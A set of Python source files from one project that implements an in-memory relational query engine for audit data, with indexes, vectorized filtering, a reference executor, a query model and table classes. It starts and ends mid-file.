        return len(self._buckets)


class SortedIndex:
    """Sorted-key index supporting range scans on one column.

    Keys are kept in a sorted list of ``(value, position)`` pairs; range scans
    bisect into the list.  ``None`` values are not indexed (SQL NULL
    semantics: they never match range predicates).
    """

    def __init__(self, column: str) -> None:
        self.column = column
        self._entries: list[tuple[Any, int]] = []

    def insert(self, value: Any, position: int) -> None:
        """Insert one (value, position) pair keeping the index sorted."""
        if value is None:
            return
        insort(self._entries, (value, position))

    def range(self, low: Any = None, high: Any = None) -> Iterator[int]:
        """Yield row positions whose value lies in ``[low, high]`` (inclusive).

        Either bound may be ``None`` for an open-ended range.
        """
        if low is None:
            start = 0
        else:
            start = bisect_left(self._entries, (low,))
        if high is None:
            stop = len(self._entries)
        else:
            # (high, +inf) — any position sorts after (high, p) for finite p,
            # so bisect on (high, positive infinity surrogate).
            stop = bisect_right(self._entries, (high, float("inf")))
        for value, position in self._entries[start:stop]:
            yield position

    def lookup(self, value: Any) -> list[int]:
        """Row positions whose value equals ``value`` exactly."""
        return list(self.range(value, value))

    def min_value(self) -> Any:
        """Smallest indexed value, or ``None`` for an empty index."""
        return self._entries[0][0] if self._entries else None

    def max_value(self) -> Any:
        """Largest indexed value, or ``None`` for an empty index."""
        return self._entries[-1][0] if self._entries else None

    def __len__(self) -> int:
        return len(self._entries)
