"""In-memory relational engine (PostgreSQL substitute) for audit data."""

from repro.storage.relational.database import (
    DEFAULT_HASH_INDEXES,
    DEFAULT_SORTED_INDEXES,
    ENTITY_SCHEMA,
    EVENT_SCHEMA,
    RelationalDatabase,
)
from repro.storage.relational.executor import AccessPath, ExecutionPlan, QueryExecutor
from repro.storage.relational.expression import (
    And,
    Between,
    Column,
    Comparison,
    Expression,
    InList,
    Like,
    Literal,
    Not,
    Or,
    TrueExpression,
    conjoin,
    equality_lookups,
    range_lookups,
)
from repro.storage.relational.index import HashIndex, SortedIndex
from repro.storage.relational.query import (
    JoinCondition,
    OrderBy,
    OutputColumn,
    QueryResult,
    RowFieldView,
    SelectQuery,
    TableRef,
)
from repro.storage.relational.reference import ReferenceQueryExecutor
from repro.storage.relational.sqlgen import count_query_lines, render_select
from repro.storage.relational.table import ColumnDefinition, Table, TableSchema
from repro.storage.relational.vectorized import filter_positions

__all__ = [
    "AccessPath",
    "And",
    "Between",
    "Column",
    "ColumnDefinition",
    "Comparison",
    "DEFAULT_HASH_INDEXES",
    "DEFAULT_SORTED_INDEXES",
    "ENTITY_SCHEMA",
    "EVENT_SCHEMA",
    "ExecutionPlan",
    "Expression",
    "HashIndex",
    "InList",
    "JoinCondition",
    "Like",
    "Literal",
    "Not",
    "Or",
    "OrderBy",
    "OutputColumn",
    "QueryExecutor",
    "QueryResult",
    "ReferenceQueryExecutor",
    "RelationalDatabase",
    "RowFieldView",
    "SelectQuery",
    "SortedIndex",
    "Table",
    "TableRef",
    "TableSchema",
    "TrueExpression",
    "conjoin",
    "count_query_lines",
    "equality_lookups",
    "filter_positions",
    "range_lookups",
    "render_select",
]
