"""Vectorized predicate evaluation over column arrays.

The columnar :class:`~repro.storage.relational.table.Table` stores one array
per column; filters therefore operate on *row positions* instead of row dicts.
This module evaluates an :class:`~repro.storage.relational.expression.Expression`
tree against a set of candidate positions using per-column array loops and
set operations:

* conjunctions narrow the position list conjunct by conjunct (preserving the
  per-row short-circuit semantics of ``And.evaluate``);
* disjunctions union per-branch matches, evaluating later branches only on
  positions not yet matched (preserving ``Or``'s short-circuit);
* leaf comparisons compile to a closure once and run a tight loop over one
  column array — no row dicts, no recursive ``evaluate`` calls, and ``LIKE``
  regexes are compiled once per filter instead of once per row.

Every path reproduces the exact semantics of ``Expression.evaluate`` (NULL
propagation, lenient string coercion for mixed-type comparisons, TypeError
fallback to string comparison), which the property tests in
``tests/property/test_property_columnar.py`` check against a per-row
reference evaluator.
"""

from __future__ import annotations

from typing import Any, Callable, Mapping, Sequence

from repro.storage.relational.expression import (
    And,
    Between,
    Column,
    Comparison,
    Expression,
    InList,
    Like,
    Literal,
    Not,
    Or,
    TrueExpression,
    _COMPARATORS,
)

#: One table's column store: column name → value array (parallel lists).
ColumnStore = Mapping[str, Sequence[Any]]


class _PositionRow(Mapping[str, Any]):
    """Zero-copy row view over a column store at one position.

    Used as the fallback when an expression node has no vectorized form
    (e.g. bare columns used as truth values): ``Expression.evaluate`` sees a
    mapping without a row dict ever being materialized.
    """

    __slots__ = ("_columns", "_position")

    def __init__(self, columns: ColumnStore, position: int) -> None:
        self._columns = columns
        self._position = position

    def __getitem__(self, key: str) -> Any:
        return self._columns[key][self._position]

    def __iter__(self):
        return iter(self._columns)

    def __len__(self) -> int:
        return len(self._columns)

    def rebind(self, position: int) -> "_PositionRow":
        self._position = position
        return self


def _compare_values(left: Any, right: Any, op_fn: Callable[[Any, Any], bool]) -> bool:
    """Exactly ``Comparison.evaluate``'s value semantics for one pair."""
    if left is None or right is None:
        return False
    if isinstance(left, str) != isinstance(right, str):
        left, right = str(left), str(right)
    try:
        return bool(op_fn(left, right))
    except TypeError:
        return bool(op_fn(str(left), str(right)))


def _comparison_matcher(
    op_fn: Callable[[Any, Any], bool], constant: Any, constant_on_left: bool
) -> Callable[[Any], bool]:
    """A per-value matcher for ``column <op> literal`` (or the mirrored form)."""
    if constant is None:
        return lambda value: False
    constant_is_str = isinstance(constant, str)
    constant_str = str(constant)

    if constant_on_left:

        def match(value: Any) -> bool:
            if value is None:
                return False
            if isinstance(value, str) != constant_is_str:
                return bool(op_fn(constant_str, str(value)))
            try:
                return bool(op_fn(constant, value))
            except TypeError:
                return bool(op_fn(constant_str, str(value)))

    else:

        def match(value: Any) -> bool:
            if value is None:
                return False
            if isinstance(value, str) != constant_is_str:
                return bool(op_fn(str(value), constant_str))
            try:
                return bool(op_fn(value, constant))
            except TypeError:
                return bool(op_fn(str(value), constant_str))

    return match


def _filter_by_matcher(
    array: Sequence[Any], positions: Sequence[int], match: Callable[[Any], bool]
) -> list[int]:
    return [position for position in positions if match(array[position])]


def filter_positions(
    columns: ColumnStore,
    row_count: int,
    predicate: Expression,
    positions: Sequence[int] | None = None,
) -> list[int]:
    """Positions (in input order) whose rows satisfy ``predicate``.

    Args:
        columns: The table's column arrays.
        row_count: Number of rows in the table.
        predicate: The filter to evaluate.
        positions: Candidate positions; ``None`` means every row.
    """
    if positions is None:
        if isinstance(predicate, TrueExpression):
            return list(range(row_count))
        positions = range(row_count)
    elif isinstance(predicate, TrueExpression):
        return list(positions)

    # -- boolean combinators ------------------------------------------------
    if isinstance(predicate, And):
        current: Sequence[int] = positions
        for operand in predicate.operands:
            if not current:
                break
            current = filter_positions(columns, row_count, operand, current)
        return list(current)

    if isinstance(predicate, Or):
        matched: set[int] = set()
        remaining: Sequence[int] = positions
        for operand in predicate.operands:
            if not remaining:
                break
            hits = filter_positions(columns, row_count, operand, remaining)
            matched.update(hits)
            if hits:
                remaining = [p for p in remaining if p not in matched]
        return [position for position in positions if position in matched]

    if isinstance(predicate, Not):
        excluded = set(filter_positions(columns, row_count, predicate.operand, positions))
        return [position for position in positions if position not in excluded]

    # -- leaf filters -------------------------------------------------------
    if isinstance(predicate, Comparison):
        op_fn = _COMPARATORS[predicate.operator]
        left, right = predicate.left, predicate.right
        if isinstance(left, Column) and isinstance(right, Literal):
            array = columns.get(left.name)
            if array is not None:
                match = _comparison_matcher(op_fn, right.value, constant_on_left=False)
                return _filter_by_matcher(array, positions, match)
        elif isinstance(left, Literal) and isinstance(right, Column):
            array = columns.get(right.name)
            if array is not None:
                match = _comparison_matcher(op_fn, left.value, constant_on_left=True)
                return _filter_by_matcher(array, positions, match)
        elif isinstance(left, Column) and isinstance(right, Column):
            left_array = columns.get(left.name)
            right_array = columns.get(right.name)
            if left_array is not None and right_array is not None:
                return [
                    position
                    for position in positions
                    if _compare_values(left_array[position], right_array[position], op_fn)
                ]

    elif isinstance(predicate, Like) and isinstance(predicate.operand, Column):
        array = columns.get(predicate.operand.name)
        if array is not None:
            regex = predicate._regex()
            negate = predicate.negate
            matched_positions: list[int] = []
            for position in positions:
                value = array[position]
                if value is None:
                    hit = False
                else:
                    hit = regex.match(str(value)) is not None
                    if negate:
                        hit = not hit
                if hit:
                    matched_positions.append(position)
            return matched_positions

    elif isinstance(predicate, InList) and isinstance(predicate.operand, Column):
        array = columns.get(predicate.operand.name)
        if array is not None:
            values = predicate.values
            try:
                value_set: frozenset[Any] | None = frozenset(values)
            except TypeError:
                value_set = None
            negate = predicate.negate

            def contains(value: Any) -> bool:
                if value_set is not None:
                    try:
                        return value in value_set
                    except TypeError:
                        return value in values
                return value in values

            if negate:
                return [p for p in positions if not contains(array[p])]
            return [p for p in positions if contains(array[p])]

    elif isinstance(predicate, Between) and isinstance(predicate.operand, Column):
        array = columns.get(predicate.operand.name)
        if array is not None:
            low, high = predicate.low, predicate.high
            matched_positions = []
            for position in positions:
                value = array[position]
                if value is not None and low <= value <= high:
                    matched_positions.append(position)
            return matched_positions

    # -- generic fallback ---------------------------------------------------
    # Anything without a vectorized form (expressions referencing columns the
    # table does not have, bare column truth-values, exotic operand shapes)
    # evaluates per row through a zero-copy position view.
    view = _PositionRow(columns, 0)
    return [
        position for position in positions if predicate.evaluate(view.rebind(position))
    ]


__all__ = ["ColumnStore", "filter_positions"]
