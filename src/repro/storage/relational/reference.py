"""Row-dict reference executor: the pre-columnar execution strategy.

This module preserves the engine's original per-row-dict execution path —
qualified row dicts per alias, per-row ``Expression.evaluate`` residual
filtering, dict-merging hash joins — exactly as it ran before the columnar
rework.  It exists for two reasons:

* the **property tests** compare the vectorized executor's output row-for-row
  against this naive evaluator on randomized tables and queries;
* the **columnar benchmarks** use it as the row-dict baseline the ≥3× speedup
  acceptance criterion is measured against.

It is *not* used on any production path.  Row dicts are materialized once per
table and cached (keyed by row count so appends invalidate), mirroring the
old engine's dict-based row store without re-paying materialization on every
query.
"""

from __future__ import annotations

from typing import Any

from repro.storage.relational.executor import AccessPath, ExecutionPlan, QueryExecutor
from repro.storage.relational.expression import TrueExpression
from repro.storage.relational.query import QueryResult, SelectQuery
from repro.storage.relational.table import Row, Table


class ReferenceQueryExecutor:
    """Plans like :class:`QueryExecutor`, executes with per-row dicts."""

    def __init__(self, tables: dict[str, Table]) -> None:
        self._tables = tables
        self._planner = QueryExecutor(tables)
        self._row_cache: dict[str, tuple[int, list[Row]]] = {}

    # -- row materialization -------------------------------------------------

    def _rows(self, table: Table) -> list[Row]:
        """All rows of ``table`` as dicts (cached until the table grows)."""
        cached = self._row_cache.get(table.name)
        if cached is not None and cached[0] == len(table):
            return cached[1]
        rows = list(table.rows_at(table.all_positions()))
        self._row_cache[table.name] = (len(table), rows)
        return rows

    # -- execution -----------------------------------------------------------

    def plan(self, query: SelectQuery) -> ExecutionPlan:
        return self._planner.plan(query)

    def execute(self, query: SelectQuery) -> QueryResult:
        """Execute ``query`` with the historical row-dict strategy."""
        plan = self.plan(query)
        joined = self._execute_joins(query, plan)

        for predicate in query.cross_filters:
            joined = [row for row in joined if predicate.evaluate(row)]

        if query.projection:
            columns = tuple(output.output_name for output in query.projection)
            projected = [
                tuple(row.get(f"{output.alias}.{output.column}") for output in query.projection)
                for row in joined
            ]
        else:
            columns = self._all_columns(query)
            projected = [tuple(row.get(column) for column in columns) for row in joined]

        if query.distinct:
            seen: set[tuple[Any, ...]] = set()
            unique: list[tuple[Any, ...]] = []
            for row in projected:
                if row not in seen:
                    seen.add(row)
                    unique.append(row)
            projected = unique

        if query.order_by:
            positions = {column: index for index, column in enumerate(columns)}

            def sort_key(row: tuple[Any, ...]) -> tuple[Any, ...]:
                key: list[Any] = []
                for term in query.order_by:
                    qualified = f"{term.alias}.{term.column}"
                    index = positions.get(qualified)
                    key.append(row[index] if index is not None else None)
                return tuple(key)

            reverse = bool(query.order_by and query.order_by[0].descending)
            projected.sort(key=sort_key, reverse=reverse)

        if query.limit is not None:
            projected = projected[: query.limit]

        return QueryResult(columns=columns, rows=tuple(projected))

    # -- internals -----------------------------------------------------------

    def _all_columns(self, query: SelectQuery) -> tuple[str, ...]:
        columns: list[str] = []
        for ref in query.tables:
            table = self._tables[ref.table]
            columns.extend(f"{ref.alias}.{name}" for name in table.schema.column_names())
        return tuple(columns)

    def _rows_for_alias(self, query: SelectQuery, path: AccessPath) -> list[dict[str, Any]]:
        predicate = query.filter_for_alias(path.alias)
        residual = None if isinstance(predicate, TrueExpression) else predicate
        rows = self._rows(path.table)
        if path.kind == "index-eq":
            candidates = [rows[p] for p in path.table.positions_equal(path.column, path.value)]
        elif path.kind == "index-in":
            candidates = [rows[p] for p in path.table.positions_in(path.column, path.values or ())]
        elif path.kind == "index-range":
            candidates = [
                rows[p]
                for p in path.table.positions_range(path.column, low=path.low, high=path.high)
            ]
        else:
            candidates = rows
        prefix = f"{path.alias}."
        qualified: list[dict[str, Any]] = []
        for row in candidates:
            if residual is None or residual.evaluate(row):
                qualified.append({prefix + key: value for key, value in row.items()})
        return qualified

    def _execute_joins(self, query: SelectQuery, plan: ExecutionPlan) -> list[dict[str, Any]]:
        order = plan.join_order
        if not order:
            return []
        current = self._rows_for_alias(query, plan.access_paths[order[0]])
        joined_aliases = {order[0]}

        for alias in order[1:]:
            right_rows = self._rows_for_alias(query, plan.access_paths[alias])
            conditions = [
                join
                for join in query.joins
                if (join.left_alias == alias and join.right_alias in joined_aliases)
                or (join.right_alias == alias and join.left_alias in joined_aliases)
            ]
            current = self._hash_join(current, right_rows, alias, conditions)
            joined_aliases.add(alias)
        return current

    @staticmethod
    def _hash_join(
        left_rows: list[dict[str, Any]],
        right_rows: list[dict[str, Any]],
        right_alias: str,
        conditions: list,
    ) -> list[dict[str, Any]]:
        if not conditions:
            return [dict(left, **right) for left in left_rows for right in right_rows]

        def left_key(row: dict[str, Any]) -> tuple[Any, ...]:
            key: list[Any] = []
            for join in conditions:
                if join.right_alias == right_alias:
                    key.append(row.get(f"{join.left_alias}.{join.left_column}"))
                else:
                    key.append(row.get(f"{join.right_alias}.{join.right_column}"))
            return tuple(key)

        def right_key(row: dict[str, Any]) -> tuple[Any, ...]:
            key: list[Any] = []
            for join in conditions:
                if join.right_alias == right_alias:
                    key.append(row.get(f"{join.right_alias}.{join.right_column}"))
                else:
                    key.append(row.get(f"{join.left_alias}.{join.left_column}"))
            return tuple(key)

        if len(left_rows) <= len(right_rows):
            buckets: dict[tuple[Any, ...], list[dict[str, Any]]] = {}
            for row in left_rows:
                buckets.setdefault(left_key(row), []).append(row)
            joined: list[dict[str, Any]] = []
            for row in right_rows:
                for match in buckets.get(right_key(row), []):
                    joined.append(dict(match, **row))
            return joined
        buckets = {}
        for row in right_rows:
            buckets.setdefault(right_key(row), []).append(row)
        joined = []
        for row in left_rows:
            for match in buckets.get(left_key(row), []):
                joined.append(dict(row, **match))
        return joined


__all__ = ["ReferenceQueryExecutor"]
