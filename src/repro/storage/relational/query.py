"""Logical query model for the relational engine.

A :class:`SelectQuery` describes a select-project-join query over the audit
tables: a set of table references with aliases, per-alias filter predicates,
equi-join conditions between aliases, a projection list, and the usual
``DISTINCT`` / ``ORDER BY`` / ``LIMIT`` modifiers.  The TBQL SQL compiler emits
these objects; :mod:`repro.storage.relational.executor` plans and runs them;
:mod:`repro.storage.relational.sqlgen` renders them as SQL text for the
conciseness comparison against TBQL.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Iterator, Mapping, Sequence

from repro.errors import QueryError
from repro.storage.relational.expression import Expression, TrueExpression


@dataclass(frozen=True)
class TableRef:
    """A table reference with an alias, e.g. ``events e1``."""

    table: str
    alias: str


@dataclass(frozen=True)
class JoinCondition:
    """An equi-join condition ``left_alias.left_column = right_alias.right_column``."""

    left_alias: str
    left_column: str
    right_alias: str
    right_column: str

    def aliases(self) -> tuple[str, str]:
        return (self.left_alias, self.right_alias)

    def to_sql(self) -> str:
        return (
            f"{self.left_alias}.{self.left_column} = "
            f"{self.right_alias}.{self.right_column}"
        )


@dataclass(frozen=True)
class OutputColumn:
    """One projected output column ``alias.column AS name``."""

    alias: str
    column: str
    name: str | None = None

    @property
    def output_name(self) -> str:
        return self.name or f"{self.alias}.{self.column}"

    def to_sql(self) -> str:
        rendered = f"{self.alias}.{self.column}"
        if self.name:
            rendered += f" AS {self.name}"
        return rendered


@dataclass(frozen=True)
class OrderBy:
    """An ORDER BY term."""

    alias: str
    column: str
    descending: bool = False

    def to_sql(self) -> str:
        direction = "DESC" if self.descending else "ASC"
        return f"{self.alias}.{self.column} {direction}"


@dataclass
class SelectQuery:
    """A select-project-join query over the relational audit store.

    Attributes:
        tables: Table references, one per alias.
        filters: Per-alias single-table predicates (pushed down by the planner).
        joins: Equi-join conditions between aliases.
        cross_filters: Predicates that span aliases and cannot be pushed down;
            their expressions reference qualified ``alias.column`` names.
        projection: Output columns; empty means "all columns of all aliases".
        distinct: Whether duplicate output rows are removed.
        order_by: Ordering terms applied to the joined result.
        limit: Maximum number of output rows (``None`` = unlimited).
    """

    tables: list[TableRef] = field(default_factory=list)
    filters: dict[str, Expression] = field(default_factory=dict)
    joins: list[JoinCondition] = field(default_factory=list)
    cross_filters: list[Expression] = field(default_factory=list)
    projection: list[OutputColumn] = field(default_factory=list)
    distinct: bool = False
    order_by: list[OrderBy] = field(default_factory=list)
    limit: int | None = None
    #: Known-declared aliases; a pure cache over ``tables`` so the per-call
    #: alias checks in the construction helpers stay O(1).  ``_require_alias``
    #: falls back to scanning ``tables`` on a miss, so constructing a plan
    #: with ``tables=[...]`` or appending to it directly stays correct.
    _alias_cache: set[str] = field(
        default_factory=set, init=False, repr=False, compare=False
    )

    # -- construction helpers ------------------------------------------------

    def add_table(self, table: str, alias: str) -> "SelectQuery":
        """Register a table under ``alias``.

        Raises:
            QueryError: if the alias is already used.
        """
        if any(ref.alias == alias for ref in self.tables):
            raise QueryError(f"duplicate table alias {alias!r}")
        self.tables.append(TableRef(table=table, alias=alias))
        self._alias_cache.add(alias)
        return self

    def add_filter(self, alias: str, predicate: Expression) -> "SelectQuery":
        """AND a single-table predicate onto ``alias``."""
        self._require_alias(alias)
        existing = self.filters.get(alias)
        if existing is None or isinstance(existing, TrueExpression):
            self.filters[alias] = predicate
        else:
            self.filters[alias] = existing & predicate
        return self

    def add_join(
        self, left_alias: str, left_column: str, right_alias: str, right_column: str
    ) -> "SelectQuery":
        """Add an equi-join condition between two aliases."""
        self._require_alias(left_alias)
        self._require_alias(right_alias)
        self.joins.append(
            JoinCondition(
                left_alias=left_alias,
                left_column=left_column,
                right_alias=right_alias,
                right_column=right_column,
            )
        )
        return self

    def add_output(self, alias: str, column: str, name: str | None = None) -> "SelectQuery":
        """Append an output column to the projection."""
        self._require_alias(alias)
        self.projection.append(OutputColumn(alias=alias, column=column, name=name))
        return self

    def aliases(self) -> list[str]:
        """Every alias declared in the query, in declaration order."""
        return [ref.alias for ref in self.tables]

    def table_for_alias(self, alias: str) -> str:
        """The table name behind ``alias``."""
        for ref in self.tables:
            if ref.alias == alias:
                return ref.table
        raise QueryError(f"unknown alias {alias!r}")

    def filter_for_alias(self, alias: str) -> Expression:
        """The pushed-down predicate for ``alias`` (TRUE when absent)."""
        return self.filters.get(alias, TrueExpression())

    def _require_alias(self, alias: str) -> None:
        if alias in self._alias_cache:
            return
        if any(ref.alias == alias for ref in self.tables):
            self._alias_cache.add(alias)
            return
        raise QueryError(f"alias {alias!r} is not declared in the FROM clause")


class RowFieldView(Mapping[str, Any]):
    """Zero-copy mapping view over a slice of one result row.

    ``fields`` maps an attribute name to its index in the underlying row
    tuple, so a binding like the TBQL executor's subject/object/event dicts
    can be exposed without copying the row into per-entity dicts.  An overlay
    dict accepts the occasional synthesized attribute (``edge_ids``) without
    touching the shared field map.
    """

    __slots__ = ("_row", "_fields", "_overlay")

    def __init__(
        self,
        row: Sequence[Any],
        fields: Mapping[str, int],
        overlay: dict[str, Any] | None = None,
    ) -> None:
        self._row = row
        self._fields = fields
        self._overlay = overlay

    def __getitem__(self, key: str) -> Any:
        if self._overlay is not None and key in self._overlay:
            return self._overlay[key]
        return self._row[self._fields[key]]

    def __setitem__(self, key: str, value: Any) -> None:
        if self._overlay is None:
            self._overlay = {}
        self._overlay[key] = value

    def __iter__(self) -> Iterator[str]:
        yield from self._fields
        if self._overlay is not None:
            for key in self._overlay:
                if key not in self._fields:
                    yield key

    def __len__(self) -> int:
        extra = 0
        if self._overlay is not None:
            extra = sum(1 for key in self._overlay if key not in self._fields)
        return len(self._fields) + extra

    def __repr__(self) -> str:
        return f"RowFieldView({dict(self)!r})"


@dataclass(frozen=True)
class QueryResult:
    """The result of executing a :class:`SelectQuery`.

    Attributes:
        columns: Output column names in projection order.
        rows: Result rows as tuples aligned with ``columns``.
    """

    columns: tuple[str, ...]
    rows: tuple[tuple[Any, ...], ...]

    def as_dicts(self) -> list[dict[str, Any]]:
        """The result rows as dictionaries keyed by column name."""
        return [dict(zip(self.columns, row)) for row in self.rows]

    def column_index(self) -> dict[str, int]:
        """Column name → row-tuple index, for repeated positional access."""
        return {name: index for index, name in enumerate(self.columns)}

    def iter_rows(
        self, columns: Sequence[str] | None = None
    ) -> Iterator[tuple[Any, ...]]:
        """Iterate result rows lazily, optionally restricted to ``columns``.

        Raises:
            QueryError: if a requested column is not part of the result.
        """
        if columns is None:
            yield from self.rows
            return
        index = self.column_index()
        try:
            selected = [index[name] for name in columns]
        except KeyError as exc:
            raise QueryError(f"result has no column {exc.args[0]!r}") from None
        for row in self.rows:
            yield tuple(row[i] for i in selected)

    def column_groups(self, separator: str = ".") -> dict[str, dict[str, int]]:
        """Group columns named ``prefix<separator>attr`` into per-prefix field maps.

        Returns prefix → {attribute: row index}; columns without the separator
        are grouped under ``""``.  The maps plug straight into
        :class:`RowFieldView`, which is how the TBQL executor splits each row
        into subject/object/event bindings without copying.
        """
        groups: dict[str, dict[str, int]] = {}
        for index, name in enumerate(self.columns):
            prefix, sep, attribute = name.partition(separator)
            if not sep:
                prefix, attribute = "", name
            groups.setdefault(prefix, {})[attribute] = index
        return groups

    def column(self, name: str) -> list[Any]:
        """One output column as a list.

        Raises:
            QueryError: if the column is not part of the result.
        """
        try:
            index = self.columns.index(name)
        except ValueError:
            raise QueryError(f"result has no column {name!r}") from None
        return [row[index] for row in self.rows]

    def __len__(self) -> int:
        return len(self.rows)

    def __bool__(self) -> bool:
        return bool(self.rows)
