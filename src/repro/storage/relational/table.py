"""Tables for the relational engine.

A :class:`Table` owns a schema (ordered column names with optional types), a
row store (list of dicts) and any number of secondary indexes.  It exposes the
scan/lookup primitives the query executor builds plans from: full scans,
hash-index lookups and sorted-index range scans, each with optional residual
filtering.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Callable, Iterable, Iterator, Mapping, Sequence

from repro.errors import SchemaError
from repro.storage.relational.expression import Expression
from repro.storage.relational.index import HashIndex, SortedIndex

Row = dict[str, Any]


@dataclass(frozen=True)
class ColumnDefinition:
    """One column of a table schema.

    Attributes:
        name: Column name.
        dtype: Expected Python type; ``None`` disables type checking.
        nullable: Whether ``None`` values are accepted.
    """

    name: str
    dtype: type | None = None
    nullable: bool = True


@dataclass(frozen=True)
class TableSchema:
    """Ordered collection of column definitions."""

    name: str
    columns: tuple[ColumnDefinition, ...]

    def column_names(self) -> tuple[str, ...]:
        return tuple(column.name for column in self.columns)

    def validate_row(self, row: Mapping[str, Any]) -> Row:
        """Validate and normalise a row against the schema.

        Unknown columns raise; missing nullable columns become ``None``.

        Raises:
            SchemaError: on unknown columns, missing non-nullable columns, or
                type mismatches.
        """
        known = {column.name: column for column in self.columns}
        unknown = set(row) - set(known)
        if unknown:
            raise SchemaError(
                f"table {self.name!r}: unknown column(s) {sorted(unknown)}"
            )
        normalised: Row = {}
        for column in self.columns:
            if column.name in row:
                value = row[column.name]
            elif column.nullable:
                value = None
            else:
                raise SchemaError(
                    f"table {self.name!r}: missing value for column {column.name!r}"
                )
            if value is not None and column.dtype is not None and not isinstance(value, column.dtype):
                # bool is an int subclass; allow int columns to accept bools but
                # reject e.g. str-in-int.
                raise SchemaError(
                    f"table {self.name!r}: column {column.name!r} expects "
                    f"{column.dtype.__name__}, got {type(value).__name__}"
                )
            normalised[column.name] = value
        return normalised


class Table:
    """An in-memory table with secondary indexes.

    Rows are stored append-only; the audit-log workload never updates or
    deletes individual rows (a whole trace is reloaded instead), which is also
    how the paper's deployment uses PostgreSQL.
    """

    def __init__(self, schema: TableSchema) -> None:
        self.schema = schema
        self._rows: list[Row] = []
        self._hash_indexes: dict[str, HashIndex] = {}
        self._sorted_indexes: dict[str, SortedIndex] = {}

    # -- schema / indexes ----------------------------------------------------

    @property
    def name(self) -> str:
        return self.schema.name

    def create_hash_index(self, column: str) -> None:
        """Create (and backfill) a hash index on ``column``."""
        self._require_column(column)
        if column in self._hash_indexes:
            return
        index = HashIndex(column)
        for position, row in enumerate(self._rows):
            index.insert(row.get(column), position)
        self._hash_indexes[column] = index

    def create_sorted_index(self, column: str) -> None:
        """Create (and backfill) a sorted index on ``column``."""
        self._require_column(column)
        if column in self._sorted_indexes:
            return
        index = SortedIndex(column)
        for position, row in enumerate(self._rows):
            index.insert(row.get(column), position)
        self._sorted_indexes[column] = index

    def hash_indexed_columns(self) -> set[str]:
        return set(self._hash_indexes)

    def sorted_indexed_columns(self) -> set[str]:
        return set(self._sorted_indexes)

    def _require_column(self, column: str) -> None:
        if column not in self.schema.column_names():
            raise SchemaError(f"table {self.name!r} has no column {column!r}")

    # -- mutation ------------------------------------------------------------

    def insert(self, row: Mapping[str, Any]) -> int:
        """Insert one row; returns its position."""
        normalised = self.schema.validate_row(row)
        position = len(self._rows)
        self._rows.append(normalised)
        for column, index in self._hash_indexes.items():
            index.insert(normalised.get(column), position)
        for column, index in self._sorted_indexes.items():
            index.insert(normalised.get(column), position)
        return position

    def insert_many(self, rows: Iterable[Mapping[str, Any]]) -> int:
        """Insert many rows; returns the number inserted."""
        count = 0
        for row in rows:
            self.insert(row)
            count += 1
        return count

    # -- access --------------------------------------------------------------

    def __len__(self) -> int:
        return len(self._rows)

    def row_at(self, position: int) -> Row:
        """The row stored at ``position`` (no copy; callers must not mutate)."""
        return self._rows[position]

    def scan(self, predicate: Expression | None = None) -> Iterator[Row]:
        """Full scan, optionally filtered by ``predicate``."""
        if predicate is None:
            yield from self._rows
            return
        for row in self._rows:
            if predicate.evaluate(row):
                yield row

    def lookup_equal(
        self, column: str, value: Any, residual: Expression | None = None
    ) -> Iterator[Row]:
        """Index-assisted equality lookup with optional residual filter.

        Falls back to a filtered scan when no usable index exists.
        """
        positions: Sequence[int] | None = None
        if column in self._hash_indexes:
            positions = self._hash_indexes[column].lookup(value)
        elif column in self._sorted_indexes:
            positions = self._sorted_indexes[column].lookup(value)
        if positions is None:
            matcher: Callable[[Row], bool] = lambda row: row.get(column) == value
            for row in self._rows:
                if matcher(row) and (residual is None or residual.evaluate(row)):
                    yield row
            return
        for position in positions:
            row = self._rows[position]
            if residual is None or residual.evaluate(row):
                yield row

    def lookup_in(
        self, column: str, values: Iterable[Any], residual: Expression | None = None
    ) -> Iterator[Row]:
        """Index-assisted membership lookup with optional residual filter."""
        value_list = list(values)
        if column in self._hash_indexes:
            for position in self._hash_indexes[column].lookup_many(value_list):
                row = self._rows[position]
                if residual is None or residual.evaluate(row):
                    yield row
            return
        allowed = set(value_list)
        for row in self._rows:
            if row.get(column) in allowed and (residual is None or residual.evaluate(row)):
                yield row

    def lookup_range(
        self,
        column: str,
        low: Any = None,
        high: Any = None,
        residual: Expression | None = None,
    ) -> Iterator[Row]:
        """Index-assisted range lookup with optional residual filter."""
        if column in self._sorted_indexes:
            index = self._sorted_indexes[column]
            for position in index.range(low, high):
                row = self._rows[position]
                if residual is None or residual.evaluate(row):
                    yield row
            return
        for row in self._rows:
            value = row.get(column)
            if value is None:
                continue
            if low is not None and value < low:
                continue
            if high is not None and value > high:
                continue
            if residual is None or residual.evaluate(row):
                yield row

    # -- statistics ------------------------------------------------------------

    def estimate_selectivity(self, column: str) -> float:
        """Rough fraction of rows matched by an equality predicate on ``column``.

        Uses the hash index's distinct-value count when available, otherwise a
        pessimistic constant.  The planner uses this to order joins.
        """
        if not self._rows:
            return 0.0
        index = self._hash_indexes.get(column)
        if index is not None and index.distinct_values():
            return 1.0 / index.distinct_values()
        return 0.1

    def statistics(self) -> dict[str, Any]:
        """Summary statistics for EXPLAIN output and tests."""
        return {
            "name": self.name,
            "rows": len(self._rows),
            "hash_indexes": sorted(self._hash_indexes),
            "sorted_indexes": sorted(self._sorted_indexes),
        }
