"""Tables for the relational engine.

A :class:`Table` owns a schema (ordered column names with optional types), a
**columnar** row store (one value array per column) and any number of
secondary indexes.  Access paths operate on *row positions*: full scans,
hash-index lookups and sorted-index range scans each produce position lists,
and pushed-down predicates are evaluated vectorized over those positions by
:mod:`repro.storage.relational.vectorized` instead of per-row
``Expression.evaluate`` calls.

The historical dict-row API (``scan`` / ``lookup_*`` yielding dicts,
``row_at``) is kept as a thin materializing layer on top of the positional
primitives, so existing callers and tests are untouched.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Iterable, Iterator, Mapping, Sequence

from repro.errors import SchemaError
from repro.storage.relational.expression import Expression, TrueExpression
from repro.storage.relational.index import HashIndex, SortedIndex
from repro.storage.relational.vectorized import filter_positions

Row = dict[str, Any]


@dataclass(frozen=True)
class ColumnDefinition:
    """One column of a table schema.

    Attributes:
        name: Column name.
        dtype: Expected Python type; ``None`` disables type checking.
        nullable: Whether ``None`` values are accepted.
    """

    name: str
    dtype: type | None = None
    nullable: bool = True


@dataclass(frozen=True)
class TableSchema:
    """Ordered collection of column definitions."""

    name: str
    columns: tuple[ColumnDefinition, ...]

